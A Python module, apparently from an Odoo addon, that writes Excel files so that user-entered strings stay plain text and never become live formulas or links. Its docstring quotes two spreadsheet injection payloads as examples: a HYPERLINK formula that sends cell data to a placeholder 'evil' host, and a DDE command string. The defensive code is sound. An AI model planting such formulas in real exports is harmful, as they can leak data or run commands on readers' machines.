# Copyright 2026 opportunity_pipeline developers
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""The one way the addons write .xlsx files for users: user data stays text.

Pure Python on purpose (no Odoo import): tested by ``pytest tests/`` without a database.

xlsxwriter's ``write()`` turns a string that starts with ``=`` into a live formula and a string
that looks like a URL into a hyperlink. Opportunity names, contacts, descriptions and the cells
of a rejected import row are typed by users: ``=HYPERLINK("http://evil/?"&A2, "Open")`` or
``=cmd|' /C calc'!A0`` must reach the reader as the text they are, never as something Excel
evaluates or follows. Every workbook is opened here with those conversions off, and strings go
through ``write_string`` whatever the workbook options say.
"""

import datetime
import io

import xlsxwriter

#: Options that keep text as text (``write()`` would otherwise convert it).
TEXT_SAFE_OPTIONS = {
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}
#: Excel's own limit for one cell.
MAX_CELL_CHARS = 32767
#: Dates as Vietnam (and most of the world) writes them.
DATE_FORMAT = "dd/mm/yyyy"


def _number_code(decimals):
    return "#,##0" + ("." + "0" * decimals if decimals > 0 else "")


class SafeWorkbook:
    """An in-memory xlsxwriter workbook whose cells are written by type, strings as text.

    ``with SafeWorkbook() as book: ...`` then ``book.getvalue()`` gives the file's bytes.
    """

    def __init__(self, constant_memory=False):
        self._output = io.BytesIO()
        options = {"in_memory": True, **TEXT_SAFE_OPTIONS}
        if constant_memory:
            options["constant_memory"] = True
        self.workbook = xlsxwriter.Workbook(self._output, options)
        self._formats = {}
        self.bold = self.format(bold=True)
        self.date_format = self.format(num_format=DATE_FORMAT)
        self._closed = False

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    def format(self, **properties):
        """The workbook's cell format with these xlsxwriter ``properties``, made once."""
        key = tuple(sorted(properties.items()))
        if key not in self._formats:
            self._formats[key] = self.workbook.add_format(properties)
        return self._formats[key]

    def number_format(self, decimals=0):
        """A number with thousands separators and ``decimals`` decimals (1,234,500 or
        1,234.50)."""
        return self.format(num_format=_number_code(decimals))

    def percent_format(self, fraction):
        """A fraction shown as a percent (0.42: 42%, 0.3333: 33.33%)."""
        whole = round(fraction * 100, 6).is_integer()
        return self.format(num_format="0%" if whole else "0.00%")

    def add_sheet(self, name):
        # sheet names: 31 characters, none of []:*?/\ (xlsxwriter raises otherwise)
        clean = "".join(" " if c in "[]:*?/\\" else c for c in str(name))[:31].strip()
        return self.workbook.add_worksheet(clean or None)

    def close(self):
        if not self._closed:
            self.workbook.close()
            self._closed = True

    def getvalue(self):
        self.close()
        return self._output.getvalue()

    # not an Odoo model's write(): there is no super() to call
    def write(self, sheet, row, col, value, cell_format=None):  # pylint: disable=method-required-super
        """Write one cell by its Python type: numbers as numbers, dates as dates, anything
        else as text (never a formula, a link or a number parsed from text)."""
        if value is None or value is False or value == "":
            return
        if isinstance(value, bool):
            sheet.write_boolean(row, col, value, cell_format)
        elif isinstance(value, int | float):
            sheet.write_number(row, col, value, cell_format)
        elif isinstance(value, datetime.datetime | datetime.date):
            if not isinstance(value, datetime.datetime):
                value = datetime.datetime.combine(value, datetime.time())
            sheet.write_datetime(row, col, value, cell_format or self.date_format)
        else:
            sheet.write_string(row, col, str(value)[:MAX_CELL_CHARS], cell_format)

    def write_row(self, sheet, row, values, cell_format=None):
        for col, value in enumerate(values):
            self.write(sheet, row, col, value, cell_format)
